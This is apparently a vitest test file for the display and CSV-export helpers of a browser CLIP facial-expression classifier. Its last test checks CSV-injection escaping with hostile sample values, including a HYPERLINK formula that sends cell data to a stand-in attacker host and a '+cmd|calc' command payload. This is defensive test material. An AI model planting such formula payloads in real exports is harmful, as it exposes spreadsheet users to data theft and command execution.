import { parseCsvText } from '@vlfer/datasets';
import { describe, expect, it } from 'vitest';
import {
  formatPercent,
  hubIdNotice,
  imageFilesOf,
  loadProgress,
  PROMPT_TYPE_NAMES,
  scoresCsv,
  spreadsheetText,
  upscaleFactor,
  webGpuFallbackNotice,
  type GalleryEntry,
} from './present.js';

describe('what the page shows', () => {
  it('percentages with one decimal, tiny values not shown as 0.0%, non-probabilities refused', () => {
    expect(formatPercent(0.63214)).toBe('63.2%');
    expect(formatPercent(1)).toBe('100.0%');
    expect(formatPercent(0)).toBe('0.0%');
    expect(formatPercent(0.0001)).toBe('<0.1%');
    expect(() => formatPercent(1.5)).toThrow(/expected a probability, got 1.5/);
    expect(() => formatPercent(Number.NaN)).toThrow(/expected a probability/);
  });

  it('prompt types read as prompts, not identifiers', () => {
    for (const name of Object.values(PROMPT_TYPE_NAMES)) expect(name).not.toMatch(/_/);
    expect(PROMPT_TYPE_NAMES.a_photo_of_a_face_with_an_expression_of_name).toBe(
      '"a photo of a face with an expression of happiness"',
    );
  });

  it('load progress: bytes over all announced files, a finished file counts whole', () => {
    const p = loadProgress();
    expect(p.update({ status: 'initiate', file: 'config.json' })).toBeUndefined();
    expect(p.update({ status: 'progress', file: 'a.onnx', loaded: 50, total: 100 } as never)).toBe(50);
    expect(p.update({ status: 'progress', file: 'b.onnx', loaded: 0, total: 300 } as never)).toBe(12.5);
    expect(p.update({ status: 'done', file: 'a.onnx' })).toBe(25);
    expect(p.update({ status: 'done', file: 'b.onnx' })).toBe(100);
  });

  it('notices: WASM fallback says why; a Hub id without remote points to ?remote=1', async () => {
    expect(await webGpuFallbackNotice('webgpu')).toBeUndefined();
    // Node has no navigator.gpu
    expect(await webGpuFallbackNotice('wasm')).toMatch(/fell back from WebGPU to WASM: this browser has no WebGPU/);
    expect(hubIdNotice('Xenova/clip-vit-base-patch32', false)).toMatch(/Hugging Face Hub id.*\?remote=1/);
    expect(hubIdNotice('Xenova/clip-vit-base-patch32', true)).toBeUndefined();
    expect(hubIdNotice('tiny-clip', false)).toBeUndefined();
  });

  it('dropped files: images kept, others named', () => {
    const files = [
      new File([new Uint8Array(1)], 'a.png', { type: 'image/png' }),
      new File(['x'], 'notes.txt', { type: 'text/plain' }),
    ];
    const { images, refused } = imageFilesOf({ files });
    expect(images.map((f) => f.name)).toEqual(['a.png']);
    expect(refused).toEqual(['notes.txt (text/plain) is not an image']);
  });

  it('small images are enlarged by an integer factor to about 240 px', () => {
    expect(upscaleFactor(48, 48)).toBe(5);
    expect(upscaleFactor(640, 480)).toBe(1);
    expect(upscaleFactor(10, 5)).toBe(8);
  });

  it('the CSV quotes fields as RFC 4180 asks and holds every score at full precision, in label-set order', () => {
    const gallery: GalleryEntry[] = [
      {
        name: 'odd, "name".jpg',
        width: 48,
        height: 48,
        results: [
          {
            face: null,
            noFace: true,
            scores: [
              { label: 'happiness', score: 0.7000000000000001 },
              { label: 'sadness', score: 0.29999999999999993 },
            ],
          },
        ],
      },
      {
        name: 'two\nlines.png',
        width: 640,
        height: 480,
        results: [
          {
            face: { box: { x: 1.5, y: 2, width: 30, height: 40 }, score: 0.9, landmarks: null },
            scores: [
              { label: 'sadness', score: 0.6 },
              { label: 'happiness', score: 0.4 },
            ],
          },
        ],
      },
    ];
    const text = scoresCsv(gallery, ['happiness', 'sadness'], { model: 'tiny-clip', prompts: 'a,b' });
    expect(text.split('\r\n')[1]).toBe(
      '"odd, ""name"".jpg",48,48,whole image,0.7000000000000001,0.29999999999999993,,,,,,1,tiny-clip,"a,b"',
    );
    const { header, records } = parseCsvText(text, 'scores.csv');
    expect(header).toEqual([
      'file',
      'width',
      'height',
      'region',
      'p_happiness',
      'p_sadness',
      'face_score',
      'box_x',
      'box_y',
      'box_width',
      'box_height',
      'no_face',
      'model',
      'prompts',
    ]);
    expect(records.map((r) => r.cells.file)).toEqual(['odd, "name".jpg', 'two\nlines.png']);
    expect(records[1]!.cells).toMatchObject({ region: 'face 1', p_happiness: '0.4', box_x: '1.5', no_face: '0' });
    expect(() => scoresCsv(gallery, ['happiness', 'anger'], {})).toThrow(/has no score for class 'anger'/);
    // a file name or setting a spreadsheet would run as a formula gets a leading ' (OWASP); numbers stay numbers
    const formula = [{ ...gallery[0]!, name: '=HYPERLINK("http://evil.example/?"&A1,"click").jpg' }];
    const cells = parseCsvText(scoresCsv(formula, ['happiness', 'sadness'], { model: '@SUM(1+1)' }), 's.csv')
      .records[0]!.cells;
    expect(cells).toMatchObject({ file: `'=HYPERLINK("http://evil.example/?"&A1,"click").jpg`, model: `'@SUM(1+1)` });
    for (const t of ['+cmd|calc.jpg', '-2+3.jpg', '\tx.jpg', '\rx.jpg']) expect(spreadsheetText(t)).toBe(`'${t}`);
    expect(spreadsheetText('a-b=c.jpg')).toBe('a-b=c.jpg');
  });
});
